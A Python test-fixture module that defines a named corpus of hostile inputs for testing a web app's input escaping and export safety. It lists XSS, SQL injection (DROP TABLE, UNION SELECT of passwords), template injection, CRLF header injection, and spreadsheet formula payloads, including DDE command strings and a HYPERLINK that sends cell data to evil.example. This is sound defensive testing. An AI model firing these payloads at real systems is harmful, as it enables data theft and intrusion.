"""Hostile input: the payloads every form, API field and export is tried with (issue 8).

Each payload is named, and grouped by kind, so that a failing test names what broke. The
corpus is data only; the tests that use it are ``test_hostile_input.py`` (API operations, page
forms, pages and documents rendered back), ``test_export_injection.py`` (.xlsx/.csv exports)
and ``test_uploads_hostile.py`` (uploaded files and their names).

Two payloads are special and named as such, because the system refuses them on purpose rather
than storing them:

- ``nul`` (U+0000): PostgreSQL text cannot hold it; the API refuses it with
  "请求中含有 NUL 字符。", a page form with Django's "不允许使用空字符。".
- ``lone_surrogate``: only JSON can carry it (``"\\ud800"``); it is not a Unicode character
  and cannot be encoded as UTF-8.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    name: str
    kind: str
    text: str
    #: only JSON can carry it (a lone surrogate is not UTF-8): not sent through forms
    json_only: bool = False


def _p(kind: str, name: str, text: str, *, json_only: bool = False) -> Payload:
    return Payload(name=name, kind=kind, text=text, json_only=json_only)


XSS = [
    _p("xss", "script_tag", "<script>alert('xss')</script>"),
    _p("xss", "img_onerror", '<img src=x onerror="alert(1)">'),
    _p("xss", "svg_onload", "<svg/onload=alert(1)>"),
    _p("xss", "attribute_break", '" autofocus onfocus="alert(1)" x="'),
    _p("xss", "single_quote_break", "' onmouseover='alert(1)' x='"),
    _p("xss", "javascript_url", "javascript:alert(document.cookie)"),
    _p("xss", "data_url", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    _p("xss", "closing_textarea", "</textarea><script>alert(1)</script>"),
    _p("xss", "html_entities", "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &#x3C;"),
]

SQL = [
    _p("sql", "or_1_eq_1", "' OR 1=1 --"),
    _p("sql", "drop_table", "'; DROP TABLE core_user; --"),
    _p("sql", "union_select", "1 UNION SELECT username, password FROM core_user--"),
    _p("sql", "like_wildcards", "%_%\\%"),
    _p("sql", "double_quote_ident", '"; SELECT pg_sleep(5); --'),
]

TEMPLATE = [
    _p("template", "django_variable", "{{ request.user.password }}"),
    _p("template", "django_tag", "{% load static %}{% debug %}"),
    _p("template", "jinja_expression", "{{ 7*7 }}{{ ''.__class__.__mro__ }}"),
    _p("template", "format_string", "%(password)s {0.__class__} ${7*7} #{7*7}"),
]

UNICODE = [
    _p("unicode", "rtl_override", "正常文本\u202egnp.exe"),
    _p("unicode", "zero_width", "隐\u200b患\u200c整\u200d改\ufeff"),
    _p("unicode", "homoglyphs", "аdmin раураl Ѕafety"),  # Cyrillic а, р, у, Ѕ
    _p("unicode", "combining_marks", "Z\u0351\u0358\u0300\u0301\u0302\u0303\u0304a\u0335\u0336"),
    _p("unicode", "emoji_4_byte", "隐患🔥🚒👩‍🚒𠀀𝕏"),
    _p("unicode", "full_width", "ｓｃｒｉｐｔ＜＞＂＇"),
    _p("unicode", "lone_surrogate", "\ud800x\udfff", json_only=True),
    _p("unicode", "bidi_isolates", "\u2066abc\u2069\u200f\u061c"),
]

CONTROL = [
    _p("control", "nul", "a\x00b"),
    _p("control", "c0_controls", "a\x01\x02\x07\x08\x0b\x0c\x1b[31mred\x1f\x7f"),
    _p("control", "c1_controls", "a\x85\x9b\x9f"),
    _p("control", "crlf_injection", "line\r\nSet-Cookie: evil=1\r\n\r\n<b>x</b>"),
    _p("control", "lone_cr", "a\rb"),
    _p("control", "line_separators", "a\u2028b\u2029c"),
]

OVERSIZE = [
    _p("oversize", "long_100k", "隐" * 100_000),
    _p("oversize", "long_ascii_word", "A" * 5_000),
]

FORMULA = [
    _p("formula", "equals", "=1+1"),
    _p("formula", "hyperlink", '=HYPERLINK("http://evil.example/?x="&A1,"点击")'),
    _p("formula", "dde", "=cmd|' /C calc'!A0"),
    _p("formula", "plus", "+1+cmd|' /C calc'!A0"),
    _p("formula", "minus", "-2+3+cmd|' /C calc'!A0"),
    _p("formula", "at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    _p("formula", "tab_prefixed", "\t=1+1"),
    _p("formula", "cr_prefixed", "\r=1+1"),
    _p("formula", "full_width_equals", "＝1+1"),
]

#: every payload, by name
CORPUS: list[Payload] = XSS + SQL + TEMPLATE + UNICODE + CONTROL + OVERSIZE + FORMULA
BY_NAME: dict[str, Payload] = {p.name: p for p in CORPUS}
assert len(BY_NAME) == len(CORPUS), "payload names are unique"

#: payloads a form or a service stores as they are (nothing refused on purpose): what is
#: rendered back must show exactly this text, escaped
STORABLE = [
    p for p in CORPUS if not p.json_only and p.kind not in ("oversize",) and p.name not in ("nul",)
]

#: cells a spreadsheet would execute: (what is exported, what a person must see in the cell)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def form_payloads() -> list[Payload]:
    """What a browser can send in a form field (no lone surrogate: it is not UTF-8)."""
    return [p for p in CORPUS if not p.json_only]
